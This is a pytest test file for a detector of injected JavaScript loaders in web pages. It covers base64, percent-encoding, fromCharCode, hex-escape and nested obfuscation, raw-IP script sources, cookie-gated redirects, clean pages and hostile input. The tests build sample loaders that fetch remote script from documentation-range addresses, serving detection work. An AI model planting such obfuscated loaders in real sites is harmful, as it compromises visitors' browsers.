"""Injected-loader detection: each technique, nesting, IoCs, clean pages, hostile input.

Every page here is synthetic; every target is a documentation address (192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) or a host under example.org / example.net /
.invalid. Nothing is executed: the decoder only reads the text.
"""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from raqib.content.scripts import (
    EVIDENCE_CHARS,
    MAX_LAYERS,
    InjectedScript,
    decode_layers,
    find_injected_scripts,
    normalise_host,
)

LOADER = (
    "var s=document.createElement('script');"
    "s.src='http://198.51.100.7/js/lib.js';document.head.appendChild(s);"
)
NEWS = (
    "<p>The port authority said container traffic rose four percent in the third quarter.</p>"
    "<p>قالت هيئة الميناء إن حركة الحاويات ارتفعت أربعة في المئة في الربع الثالث.</p>"
)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def percent_all(text: str) -> str:
    return "".join(f"%{ord(char):02X}" for char in text)


def char_codes(text: str, separator: str = ",") -> str:
    return separator.join(str(ord(char)) for char in text)


def page(body: str) -> str:
    head = "<!doctype html><html><head><title>Port news</title></head>"
    return f"{head}<body>{NEWS}{body}</body></html>"


def only(html: str) -> InjectedScript:
    findings = find_injected_scripts(html)
    assert len(findings) == 1, [f.as_dict() for f in findings]
    return findings[0]


def ioc_values(finding: InjectedScript, kind: str) -> list[str]:
    return [ioc["value"] for ioc in finding.iocs if ioc["type"] == kind]


# -- one test per technique ------------------------------------------------------------------


def test_data_uri_script_base64_is_decoded_to_its_raw_ip_target() -> None:
    finding = only(page(f'<script src="data:text/javascript;base64,{b64(LOADER)}"></script>'))
    assert finding.technique == "data_uri_script+raw_ip_script_src"
    assert finding.layers == 1
    assert finding.iocs[:2] == (
        {"type": "url", "value": "http://198.51.100.7/js/lib.js"},
        {"type": "ip", "value": "198.51.100.7"},
    )
    assert finding.evidence.startswith('<script src="data:text/javascript;base64,')


def test_data_uri_script_percent_encoded() -> None:
    uri = "data:application/javascript," + percent_all("console.log('placeholder-17')")
    finding = only(page(f'<script src="{uri}"></script>'))
    assert finding.technique == "data_uri_script"
    assert finding.iocs == ()


def test_data_uri_assigned_in_code() -> None:
    uri = f"data:text/javascript;base64,{b64(LOADER)}"
    code = f"var s=document.createElement('script'); s.src='{uri}'; document.body.appendChild(s);"
    finding = only(page(f"<script>{code}</script>"))
    assert finding.technique == "data_uri_script+raw_ip_script_src"
    assert ioc_values(finding, "url") == ["http://198.51.100.7/js/lib.js"]


def test_clean_code_is_returned_unchanged() -> None:
    code = "var total = prices.reduce(function (a, b) { return a + b; }, 0);"
    assert decode_layers(code) == (code, 0)


def test_document_write_unescape() -> None:
    markup = '<script src="https://CDN.Example.NET/a.js"></script>'
    finding = only(page(f"<script>document.write(unescape('{percent_all(markup)}'));</script>"))
    assert finding.technique == "document_write_unescape"
    assert finding.layers == 1
    assert finding.iocs == (
        {"type": "url", "value": "https://cdn.example.net/a.js"},
        {"type": "host", "value": "cdn.example.net"},
    )
    assert finding.evidence.startswith("document.write(unescape('%3C%73%63")


@pytest.mark.parametrize(
    "call",
    [
        "eval(atob('{}'))",
        "window.eval(window.atob('{}'))",
        "Function(atob('{}'))()",
        'new Function(self.atob("{}"))()',
        "setTimeout(atob('{}'), 10)",
    ],
)
def test_eval_atob_variants(call: str) -> None:
    finding = only(page(f"<script>{call.format(b64(LOADER))}</script>"))
    assert finding.technique == "eval_atob+raw_ip_script_src"
    assert finding.layers == 1
    assert ioc_values(finding, "ip") == ["198.51.100.7"]


def test_eval_atob_of_a_variable_is_reported_without_decoding() -> None:
    finding = only(page("<script>var p = readPayload(); eval(atob(p));</script>"))
    assert (finding.technique, finding.layers, finding.iocs) == ("eval_atob", 0, ())


def test_atob_string_kept_in_a_variable_is_read_too() -> None:
    code = f"var u = atob('{b64('https://stats.example.org/c.js')}'); load(u);"
    finding = only(page(f"<script>{code}</script>"))
    assert finding.technique == "atob_string"
    assert ioc_values(finding, "host") == ["stats.example.org"]


@pytest.mark.parametrize(
    ("call", "technique"),
    [
        ("document.write(atob('{b64}'))", "document_write_atob"),
        ("var u = decodeURIComponent('{pct}'); load(u);", "unescape_string"),
    ],
)
def test_other_sinks_of_base64_and_percent(call: str, technique: str) -> None:
    markup = '<script src="https://stats.example.org/c.js"></script>'
    code = call.format(b64=b64(markup), pct=percent_all(markup))
    finding = only(page(f"<script>{code}</script>"))
    assert finding.technique == technique
    assert ioc_values(finding, "host") == ["stats.example.org"]


def test_eval_unescape() -> None:
    finding = only(page(f"<script>eval(unescape('{percent_all(LOADER)}'))</script>"))
    assert finding.technique == "eval_unescape+raw_ip_script_src"


@pytest.mark.parametrize(
    "expression",
    [
        "String.fromCharCode({})",
        "String.fromCharCode( {} )",
        "String.fromCharCode.apply(null, [{}])",
    ],
)
def test_fromcharcode_chain(expression: str) -> None:
    url = "https://media.example.org/p.js"
    separator = ", " if "( " in expression else ","
    source = expression.format(char_codes(url, separator))
    code = f"var s=document.createElement('script');s.src={source};"
    finding = only(page(f"<script>{code}</script>"))
    assert finding.technique == "fromcharcode_chain"
    assert finding.iocs[0] == {"type": "url", "value": url}


def test_fromcharcode_chain_of_concatenated_single_calls() -> None:
    url = "//203.0.113.50/x.js"
    calls = " + ".join(f"String.fromCharCode({ord(char)})" for char in url)
    code = f"var s=document.createElement('script'); s.src = {calls}; document.body.appendChild(s);"
    finding = only(page(f"<script>{code}</script>"))
    assert finding.technique == "fromcharcode_chain+raw_ip_script_src"
    assert ioc_values(finding, "url") == ["https://203.0.113.50/x.js"]


@pytest.mark.parametrize("style", ["\\x{:02x}", "\\u{:04x}", "\\u{{{:x}}}"])
def test_hex_escape(style: str) -> None:
    url = "https://files.example.net/v.js"
    escaped = "".join(style.format(ord(char)) for char in url)
    finding = only(
        page(f"<script>var s=document.createElement('script');s.src='{escaped}';</script>")
    )
    assert finding.technique == "hex_escape"
    assert ioc_values(finding, "url") == [url]


def test_reversed_string() -> None:
    reversed_url = "https://cdn.example.org/r.js"[::-1]
    code = f"var u='{reversed_url}'.split('').reverse().join('');"
    finding = only(page(f"<script>{code}</script>"))
    assert finding.technique == "reversed_string"
    assert ioc_values(finding, "host") == ["cdn.example.org"]


@pytest.mark.parametrize(
    ("src", "expected_ip"),
    [
        ("http://203.0.113.9/lib.js", "203.0.113.9"),
        ("//[2001:DB8:0:0::5]/lib.js", "2001:db8::5"),
        ("http://3221225985/lib.js", "192.0.2.1"),  # the decimal form browsers accept
        ("http://0xC0.0.2.0x2/lib.js", "192.0.2.2"),
        ("http://192.0.\n2.3/lib.js", "192.0.2.3"),  # tabs and newlines are ignored
    ],
)
def test_raw_ip_script_src(src: str, expected_ip: str) -> None:
    finding = only(page(f'<script src="{src}"></script>'))
    assert finding.technique == "raw_ip_script_src"
    assert finding.iocs[1] == {"type": "ip", "value": expected_ip}


def test_raw_ip_iframe_src() -> None:
    finding = only(page('<iframe src="http://198.51.100.20:8080/frame" width="1"></iframe>'))
    assert finding.technique == "raw_ip_iframe_src"
    assert finding.iocs[0] == {"type": "url", "value": "http://198.51.100.20:8080/frame"}


def test_loopback_addresses_are_not_reported() -> None:
    assert find_injected_scripts(page('<script src="http://127.0.0.1:8000/dev.js"></script>')) == []


def test_cookie_gated_redirect() -> None:
    code = (
        "if (document.cookie.indexOf('_seen=') === -1) {"
        " document.cookie = '_seen=1; path=/; max-age=86400';"
        " top.location.href = 'https://promo.example.net/landing'; }"
    )
    finding = only(page(f"<script>{code}</script>"))
    assert finding.technique == "cookie_gated_redirect"
    assert finding.iocs[0] == {"type": "url", "value": "https://promo.example.net/landing"}


def test_cookie_gated_redirect_hidden_by_base64() -> None:
    inner = "if(!/v=1/.test(document.cookie)){location.replace('http://192.0.2.80/go')}"
    finding = only(page(f"<script>eval(atob('{b64(inner)}'))</script>"))
    assert finding.technique == "eval_atob+cookie_gated_redirect+raw_ip_redirect"
    assert finding.iocs[:2] == (
        {"type": "url", "value": "http://192.0.2.80/go"},
        {"type": "ip", "value": "192.0.2.80"},
    )


def test_meta_refresh_to_raw_ip_and_to_script_uri() -> None:
    findings = find_injected_scripts(
        page(
            '<meta http-equiv="Refresh" content="0; URL=\'http://203.0.113.77/\'">'
            "<meta http-equiv=refresh content=\"1;url=javascript:eval(atob('"
            + b64(LOADER)
            + "'))\">"
        )
    )
    assert [f.technique for f in findings] == [
        "meta_refresh_raw_ip",
        "meta_refresh_script_uri+eval_atob+raw_ip_script_src",
    ]
    assert ioc_values(findings[0], "ip") == ["203.0.113.77"]


def test_event_handler_and_javascript_url_are_checked() -> None:
    findings = find_injected_scripts(
        page(
            f'<img src="x.png" onerror="eval(atob(\'{b64(LOADER)}\'))">'
            f"<a href=\" Java\tScript:eval(atob('{b64(LOADER)}'))\">more</a>"
        )
    )
    assert [f.technique for f in findings] == ["eval_atob+raw_ip_script_src"] * 2
    assert findings[0].evidence.startswith('<img onerror="eval(atob(')
    assert findings[1].evidence.startswith('<a href=" Java Script:eval(atob(')


def test_nested_layers_base64_in_unescape_in_fromcharcode() -> None:
    inner = "document.write('<script src=\"http://192.0.2.33/p.js\"></scr' + 'ipt>')"
    layer2 = f"eval(atob('{b64(inner)}'))"
    layer3 = f"eval(unescape('{percent_all(layer2)}'))"
    code = f"eval(String.fromCharCode({char_codes(layer3)}))"
    decoded, layers = decode_layers(code)
    assert layers == 3
    assert '<script src="http://192.0.2.33/p.js"></script>' in decoded
    finding = only(page(f"<script>{code}</script>"))
    assert finding.technique == "fromcharcode_chain+eval_unescape+eval_atob+raw_ip_script_src"
    assert finding.layers == 3
    assert finding.iocs[:2] == (
        {"type": "url", "value": "http://192.0.2.33/p.js"},
        {"type": "ip", "value": "192.0.2.33"},
    )
    assert finding.evidence.startswith("eval(String.fromCharCode(101,118,97,108")


def test_decoding_depth_is_limited() -> None:
    code = "console.log('⟦placeholder⟧')"
    for _ in range(12):
        code = f"eval(atob('{b64(code)}'))"
    decoded, layers = decode_layers(code)
    assert layers == MAX_LAYERS
    assert decoded.startswith(" \neval(atob(")
    assert decode_layers(code, max_layers=3)[1] == 3
    assert decode_layers(code, max_layers=0) == (code, 0)


def test_scripts_inside_comments_are_reported_separately() -> None:
    html = page(
        '<!-- <script src="http://192.0.2.4/old.js"></script> -->'
        '<!--[if IE]><script src="http://192.0.2.5/ie.js"></script><![endif]-->'
        "<!-- a note for editors, no markup -->"
    )
    techniques = [f.technique for f in find_injected_scripts(html)]
    assert techniques == ["in_comment+raw_ip_script_src", "in_comment+raw_ip_script_src"]


# -- IoCs and evidence -----------------------------------------------------------------------


def test_hosts_are_lowercased_and_idna_encoded() -> None:
    code = "document.write('<script src=\"https://BÜCHER.example.org/x.js\"></script>')"
    finding = only(page(f"<script>eval(atob('{b64(code)}'))</script>"))
    assert finding.iocs == (
        {"type": "url", "value": "https://xn--bcher-kva.example.org/x.js"},
        {"type": "host", "value": "xn--bcher-kva.example.org"},
    )


def test_normalise_host_rejects_what_is_not_a_host() -> None:
    assert normalise_host("Example.ORG.") == ("example.org", False)
    assert normalise_host("[2001:db8::1]") == ("2001:db8::1", True)
    assert normalise_host("192.0.2.300") is None
    assert normalise_host("localhost-only") is None
    assert normalise_host("bad host.example.org") is None
    assert normalise_host("[zz::1]") is None


def test_final_script_url_comes_before_outer_literals() -> None:
    inner = "var s=document.createElement('script');s.src='https://payload.example.net/p.js';"
    code = f"var ref='https://www.example.org/'; eval(atob('{b64(inner)}'))"
    finding = only(page(f"<script>{code}</script>"))
    assert ioc_values(finding, "url") == [
        "https://payload.example.net/p.js",
        "https://www.example.org/",
    ]


def test_evidence_is_one_short_plain_line() -> None:
    code = "\n\t".join([f"eval(atob('{b64(LOADER * 20)}'))"] * 3) + "\u202e\x00"
    finding = only(page(f"<script>{code}</script>"))
    assert len(finding.evidence) <= EVIDENCE_CHARS
    assert "\n" not in finding.evidence and "\t" not in finding.evidence
    assert finding.evidence.endswith("…")
    assert finding.as_dict() == {
        "technique": finding.technique,
        "iocs": [dict(ioc) for ioc in finding.iocs],
        "evidence": finding.evidence,
        "layers": finding.layers,
    }


# -- clean pages: no false positives ---------------------------------------------------------

CLEAN_PAGE = """<!doctype html>
<html lang="ar" dir="rtl"><head><meta charset="utf-8"><title>أخبار الطقس</title>
<meta http-equiv="refresh" content="600; url=https://news.example.org/weather">
<link rel="stylesheet" href="/static/site.css">
<script src="/static/js/app.4f2a1c.js" defer></script>
<script src="https://cdn.example.net/lib/jquery-3.7.1.min.js"></script>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-PLACEHOLDER"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){dataLayer.push(arguments);}
  gtag('js', new Date());
  gtag('config', 'G-PLACEHOLDER');
</script>
<script type="text/javascript">
  var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
  document.write(unescape("%3Cscript src='" + gaJsHost +
    "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));
</script>
<script type="application/ld+json">{"@context": "https://schema.org",
  "headline": "\\u0627\\u0644\\u0637 \\x41\\x42\\x43\\x44\\x45\\x46\\x47"}</script>
<script>
  // consent banner: shown until accepted
  if (document.cookie.indexOf('consent=1') === -1) { showBanner(); }
  function accept() { document.cookie = 'consent=1; path=/; max-age=31536000'; hideBanner(); }
  var nl = String.fromCharCode(10);
  var closeTag = '\\x3c/script>';
  var title = '\\u0627\\u0644\\u0637\\u0642\\u0633';
  if (!document.cookie.match(/lang=/)) { window.location.href = '/ar/'; }
  document.write('<script src="https://cdn.example.net/widgets/clock.js"><\\/script>');
  var data = atob('eyJ6b29tIjogMn0=');
</script>
</head><body>
<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-PLACEHOLDER"
  height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>
<p>توقعت الأرصاد أجواء معتدلة مع رياح خفيفة على السواحل.</p>
<a href="https://news.example.org/markets"
  onclick="window.location='/markets'; return false;">الأسواق</a>
<a href="javascript:void(0)" onclick="toggleMenu()">القائمة</a>
<button onclick="document.getElementById('more').hidden = false">More</button>
<iframe src="https://video.example.org/embed/123" width="560" height="315"></iframe>
</body></html>"""


def test_clean_page_has_no_findings() -> None:
    assert find_injected_scripts(CLEAN_PAGE) == []


def test_non_javascript_script_types_are_not_checked() -> None:
    html = page(f"<script type=\"text/template\">eval(atob('{b64(LOADER)}'))</script>")
    assert find_injected_scripts(html) == []


# -- hostile and broken input ----------------------------------------------------------------


def test_broken_markup_still_finds_the_loader() -> None:
    html = f"<div><p>unclosed <b>bold <script>eval(atob('{b64(LOADER)}'))</script><table><td>x"
    assert only(html).technique == "eval_atob+raw_ip_script_src"


def test_lone_surrogates_and_control_characters_do_not_crash() -> None:
    code = "'\\ud83d' + '\\ude00' + String.fromCharCode(55357)"
    html = f"<p>\ud800 text \x00\x1b</p><script>{code}</script>"
    assert find_injected_scripts(html) == []


@pytest.mark.parametrize(
    "code",
    [
        "\\'" * 50_000,
        "'" * 100_000,
        "(" * 100_000,
        "String.fromCharCode(1," * 5_000,
        "atob('" * 20_000,
        "eval(" * 20_000 + "'x'" + ")" * 20_000,
        "/[" * 50_000,
        "/*" + "*" * 100_000,
        "+".join(["'ab'"] * 30_000),
        "'x'.split('').reverse().join('')+" * 3_000,
    ],
)
def test_pathological_code_finishes_quickly(code: str) -> None:
    started = time.perf_counter()
    find_injected_scripts(f"<script>{code}</script>")
    assert time.perf_counter() - started < 10.0  # ~0.5 s unloaded; quadratic would be minutes


def test_time_grows_linearly_with_code_size() -> None:
    def seconds(copies: int) -> float:
        code = "+".join(["'ab'"] * copies) + ";" + f"eval(atob('{b64(LOADER)}'));" * (copies // 50)
        started = time.perf_counter()
        find_injected_scripts(f"<script>{code}</script>")
        return time.perf_counter() - started

    small = min(seconds(5_000) for _ in range(3))
    large = min(seconds(40_000) for _ in range(2))
    assert large < small * 8 * 4 + 1.0  # 8x the input: well under quadratic (64x)


@settings(max_examples=150, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list("<>/'\"()+,.;=%\\xu0123456789abcdefs ")), max_size=300)
)
def test_decoder_never_raises_on_script_like_noise(code: str) -> None:
    decoded, layers = decode_layers(code)
    assert isinstance(decoded, str) and 0 <= layers <= MAX_LAYERS
    for finding in find_injected_scripts(f"<script>{code}</script><img onerror='{code}'>"):
        assert len(finding.evidence) <= EVIDENCE_CHARS


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=500))
def test_any_text_is_accepted(html: str) -> None:
    assert isinstance(find_injected_scripts(html), list)
